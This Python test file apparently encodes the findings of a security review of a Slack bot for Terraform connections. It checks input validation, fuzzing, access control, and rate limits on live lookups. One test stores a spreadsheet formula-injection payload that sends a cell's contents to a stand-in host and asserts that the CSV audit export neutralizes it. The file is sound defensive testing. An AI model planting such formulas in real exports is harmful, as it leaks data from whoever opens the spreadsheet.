"""The second outside attack run's findings, each driven through the real endpoint."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.connections.service import ConnectionNotFound
from tests.cli import run_cli
from tests.fakes.slack import FakeSlack, SlackDriver
from tests.fakes.tfe import FakeTFE
from tests.flow.steps import CHANNEL, OWNER, STRANGER, request, started, view_text
from tests.flow.test_approvals import APPROVER, decision_view, requested
from tests.flow.test_health import connected
from tests.harness import RunningBot, eventually


def export(database_url: str, cwd: Path, *args: str) -> str:
    result = run_cli(cwd, "audit", *args, env={"DATABASE_URL": database_url})
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_a_formula_typed_into_a_deny_reason_is_inert_in_csv_and_exact_in_json(
    make_bot: Callable[..., RunningBot],
    fake_slack: FakeSlack,
    env: dict[str, str],
    tmp_path: Path,
) -> None:
    bot = make_bot(APPROVERS=APPROVER)
    slack = SlackDriver(fake_slack, bot.url)
    requested(slack, fake_slack)
    reason = '=HYPERLINK("http://x.example/?leak="&A1,"y")'
    view = decision_view(slack, APPROVER, "Deny")
    slack.submit(view, {"Why are you denying it?": reason}, user=APPROVER)
    slack.wait_for_view_text(APPROVER, "You denied")

    rows = list(
        csv.DictReader(io.StringIO(export(env["DATABASE_URL"], tmp_path, "--format", "csv")))
    )
    details = [r["detail"] for r in rows if reason in r["detail"]]
    assert details, rows
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    lines = [json.loads(line) for line in export(env["DATABASE_URL"], tmp_path).splitlines()]
    assert any(line["detail"].startswith(reason) or reason in line["detail"] for line in lines)
    assert [r["connection"] for r in rows] == [str(line["connection"]) for line in lines]
    assert OWNER in {line["actor"] for line in lines}


FORM = "application/x-www-form-urlencoded"
JSON = "application/json"


def form(payload: object) -> bytes:
    return urlencode({"payload": json.dumps(payload)}).encode()


@pytest.mark.sqlite_only
@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (form({"type": "block_actions", "actions": "x", "user": 5}), FORM),
        (form({"type": "block_actions", "actions": [], "user": {"id": "U1"}}), FORM),
        (
            form({"type": "block_actions", "actions": [{"action_id": 7}], "user": {"id": "U1"}}),
            FORM,
        ),
        (form({"type": "block_actions", "actions": ["x"], "user": {"id": "U1"}}), FORM),
        (form({"type": "block_actions", "actions": [{"action_id": "a"}], "user": {"id": 5}}), FORM),
        (
            form(
                {
                    "type": "block_actions",
                    "actions": [{"action_id": "a"}],
                    "user": {"id": "U1"},
                    "team": "T1",
                }
            ),
            FORM,
        ),
        (form({"type": "view_submission", "user": {"id": "U1"}, "view": "x"}), FORM),
        (
            form(
                {"type": "view_submission", "user": {"id": "U1"}, "view": {"state": {"values": []}}}
            ),
            FORM,
        ),
        (
            form(
                {
                    "type": "view_submission",
                    "user": {"id": "U1"},
                    "view": {"state": {"values": {"b": 1}}},
                }
            ),
            FORM,
        ),
        (form({"type": "view_closed", "view": {}}), FORM),
        (form({"type": 5}), FORM),
        (json.dumps({"type": "event_callback", "event": "x"}).encode(), JSON),
        (json.dumps({"type": "event_callback", "event": {"type": 1}}).encode(), JSON),
        (
            json.dumps(
                {"type": "event_callback", "event": {"type": "team_join", "user": 5}}
            ).encode(),
            JSON,
        ),
        (
            json.dumps(
                {"type": "event_callback", "event": {"type": "team_join", "user": {"id": []}}}
            ).encode(),
            JSON,
        ),
        (
            json.dumps(
                {"type": "event_callback", "team_id": 5, "event": {"type": "app_home_opened"}}
            ).encode(),
            JSON,
        ),
        (
            json.dumps(
                {
                    "type": "event_callback",
                    "authorizations": [1],
                    "event": {"type": "app_home_opened"},
                }
            ).encode(),
            JSON,
        ),
        (json.dumps({"type": "url_verification"}).encode(), JSON),
        (json.dumps({"type": ["event_callback"]}).encode(), JSON),
    ],
)
def test_signed_bodies_of_shapes_slack_never_sends_are_400(
    slack: SlackDriver, body: bytes, content_type: str
) -> None:
    assert slack.post(body, content_type).status_code == 400


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["id", "type", "action_id", "values", "state", "user"]),
            inner,
            max_size=3,
        )
    ),
    max_leaves=8,
)
_PAYLOAD_KEYS = [
    "type",
    "user",
    "team",
    "channel",
    "view",
    "actions",
    "container",
    "message",
    "trigger_id",
    "enterprise",
    "authorizations",
    "state",
]
_EVENT_KEYS = ["type", "user", "channel", "team", "tab", "item", "message"]


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    kind=st.sampled_from(
        ["block_actions", "view_submission", "view_closed", "shortcut", "block_suggestion"]
    ),
    fields=st.dictionaries(st.sampled_from(_PAYLOAD_KEYS), _VALUES, max_size=6),
)
@pytest.mark.sqlite_only
def test_no_signed_interaction_of_any_shape_gets_a_500(
    slack: SlackDriver, kind: str, fields: dict[str, object]
) -> None:
    response = slack.post(form({**fields, "type": kind}), FORM)
    assert response.status_code in (200, 400, 404), response.text


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    kind=st.sampled_from(["app_home_opened", "user_change", "team_join", "message"]),
    event=st.dictionaries(st.sampled_from(_EVENT_KEYS), _VALUES, max_size=5),
    team=_VALUES,
)
@pytest.mark.sqlite_only
def test_no_signed_event_of_any_shape_gets_a_500(
    slack: SlackDriver, kind: str, event: dict[str, object], team: object
) -> None:
    body = {"type": "event_callback", "team_id": team, "event": {**event, "type": kind}}
    response = slack.post(json.dumps(body).encode(), JSON)
    assert response.status_code in (200, 400, 404), response.text


@pytest.mark.sqlite_only
@pytest.mark.parametrize(
    "change",
    [
        {"team_id": "T999OTHER"},
        {"id": "U" + "A" * 5000},
        {"id": "u1lowercase"},
        {"team_id": None},
    ],
)
def test_a_member_event_about_someone_of_another_team_or_a_bad_id_is_not_noted(
    make_bot: Callable[..., RunningBot], fake_slack: FakeSlack, change: dict[str, object]
) -> None:
    fake_slack.members = [OWNER]
    bot = make_bot()
    eventually(lambda: bot.runtime.directory.loaded)
    slack = SlackDriver(fake_slack, bot.url)
    person = {**fake_slack.person("U7NEWCOMER"), **change}
    assert slack.event({"type": "team_join", "user": person}).status_code in (200, 400)
    # The same event about someone of this team is noted: the refusal above is the rule's.
    slack.event({"type": "team_join", "user": fake_slack.person("U6GENUINE")})
    eventually(lambda: bot.runtime.directory.known("U6GENUINE") is True)
    assert bot.runtime.directory.known(str(person["id"])) is None
    stored = bot.runtime.directory.changes.since(timedelta(hours=1))
    assert [user for _change, user, _full in stored] == ["U6GENUINE"]


def test_one_open_connection_per_organization_whatever_the_case_of_its_name(
    slack: SlackDriver, fake_slack: FakeSlack, bot: RunningBot
) -> None:
    started(slack, fake_slack)
    request(slack, "ACME-Infra", user=STRANGER)
    said = view_text(slack.wait_for_view_text(STRANGER, "already under way"))
    assert "Connection #1" in said
    assert bot.runtime.service.open_for_organization("Acme-INFRA").id == 1
    with pytest.raises(ConnectionNotFound):
        bot.runtime.service.get(2)
    assert bot.runtime.flow.service.get(1).organization == "acme-infra"


OUTSIDERS = {
    "guest": {"is_restricted": True},
    "single-channel guest": {"is_ultra_restricted": True},
    "deactivated": {"deleted": True},
}


@pytest.mark.sqlite_only
@pytest.mark.parametrize("who", [*OUTSIDERS, "outside ALLOWED_USERS"])
def test_outsiders_see_nothing_of_other_peoples_connections(
    make_bot: Callable[..., RunningBot], fake_slack: FakeSlack, fake_tfe: FakeTFE, who: str
) -> None:
    bot = make_bot(ALLOWED_USERS=f"{OWNER} {STRANGER}")
    slack = SlackDriver(fake_slack, bot.url)
    client_id = connected(slack, fake_slack, fake_tfe, bot)
    outsider = "U5OUTSIDER" if who == "outside ALLOWED_USERS" else STRANGER
    fake_slack.user_flags[outsider] = OUTSIDERS.get(who, {})
    tokens = rf".*/oauth-clients/{client_id}/oauth-tokens.*"
    slack.command("status 1", user=OWNER, channel=CHANNEL)  # the owner's look is live
    eventually(
        lambda: [m for m in fake_slack.ephemeral if m.user == OWNER and "Connection #1" in m.text]
    )
    live_before = len(fake_tfe.requests_to("GET", tokens))
    for asked in ("1", "#1", "acme-infra", "ACME-INFRA"):
        slack.command(f"status {asked}", user=outsider, channel=CHANNEL)
        said = eventually(
            lambda asked=asked: [
                m
                for m in fake_slack.ephemeral
                if m.user == outsider and asked.lstrip("#") in m.text
            ]
        )[-1]
        assert said.text.startswith("No connection is numbered or named"), said.text
    slack.command("status", user=outsider, channel=CHANNEL)
    overview = eventually(
        lambda: [m for m in fake_slack.ephemeral if m.user == outsider and "connections" in m.text]
    )[-1]
    slack.command("cancel 1", user=outsider, channel=CHANNEL)
    # As for a connection that does not exist: no owner named, nothing cancelled.
    eventually(
        lambda: [
            m
            for m in fake_slack.ephemeral
            if m.user == outsider and m.text == "There is no connection #1."
        ]
    )
    slack.open_home(outsider)
    home = eventually(lambda: fake_slack.homes.get(outsider))
    seen = (
        json.dumps([m.blocks for m in fake_slack.ephemeral if m.user == outsider])
        + json.dumps(home)
        + overview.text
    )
    for secret in ("acme-infra", "svc-terraform", "acme-team", client_id, OWNER):
        assert secret not in seen, secret
    assert (
        len(fake_tfe.requests_to("GET", rf".*/oauth-clients/{client_id}/oauth-tokens.*"))
        == live_before
    )
    assert bot.runtime.service.get(1).state == "connected"


@pytest.mark.sqlite_only
def test_the_owner_and_a_colleague_still_see_it_and_live_looks_are_limited(
    make_bot: Callable[..., RunningBot], fake_slack: FakeSlack, fake_tfe: FakeTFE
) -> None:
    bot = make_bot()
    slack = SlackDriver(fake_slack, bot.url)
    client_id = connected(slack, fake_slack, fake_tfe, bot)
    slack.command("status 1", user=STRANGER, channel=CHANNEL)  # a colleague may see it
    eventually(
        lambda: [
            m for m in fake_slack.ephemeral if m.user == STRANGER and "Connection #1" in m.text
        ]
    )
    tokens = rf".*/oauth-clients/{client_id}/oauth-tokens.*"
    before = len(fake_tfe.requests_to("GET", tokens))
    for _ in range(6):
        slack.command("status 1", user=OWNER, channel=CHANNEL)
    eventually(
        lambda: (
            len([m for m in fake_slack.ephemeral if m.user == OWNER and "Connection #1" in m.text])
            == 6
        )
    )
    assert len(fake_tfe.requests_to("GET", tokens)) - before == 3  # then the last check is shown
    texts = [
        json.dumps(m.blocks)
        for m in fake_slack.ephemeral
        if m.user == OWNER and "Connection #1" in m.text
    ]
    assert sum("Checked just now" in t for t in texts) == 3
